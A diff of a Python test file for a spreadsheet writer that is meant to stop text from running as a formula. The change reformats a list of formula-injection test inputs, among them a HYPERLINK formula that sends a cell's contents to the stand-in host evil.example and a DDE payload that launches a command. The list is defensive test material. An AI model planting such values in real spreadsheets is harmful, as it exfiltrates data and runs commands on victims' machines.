@@ -1,4 +1,5 @@
 """The one workbook writer: text never runs as a formula, numbers stay numbers."""
+
 from __future__ import annotations
 
 import datetime as dt
@@ -9,8 +10,14 @@ from openpyxl import load_workbook
 
 from liaison.xlsx import SafeWorkbook, workbook_bytes
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A2)",
-           "\t=1+1", "\r=cmd|' /C calc'!A0"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=cmd|' /C calc'!A0",
+]
 
 
 def _read(content: bytes) -> list:
